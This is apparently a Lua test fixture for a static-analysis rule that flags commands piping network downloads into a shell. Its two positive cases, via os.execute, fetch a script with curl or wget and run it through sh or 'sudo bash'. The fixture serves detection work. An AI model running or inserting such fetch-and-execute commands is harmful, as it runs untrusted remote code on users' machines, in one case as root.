-- ruleid: any.exec.pipe_to_shell
os.execute("curl -fsSL https://get.example.com/install.sh | sh")
-- ruleid: any.exec.pipe_to_shell
os.execute("wget -qO- http://203.0.113.7/x | sudo bash")
-- ok: any.exec.pipe_to_shell
os.execute("curl -o file.tar.gz https://example.com/file.tar.gz")
-- ok: any.exec.pipe_to_shell
print("curl | shows nothing")
